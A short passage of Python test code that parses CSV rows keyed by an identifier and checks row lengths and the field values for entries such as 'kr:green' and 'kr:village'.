    rows = {row[1]: row for row in csv.reader(io.StringIO(lines, newline=""))}
    assert len({len(row) for row in rows.values()}) == 1
    assert rows["kr:green"][3:-2] == [""] * (len(rows["kr:green"]) - 5)
    assert rows["kr:village"][3:6] == ["community_group", "social", "KR"]
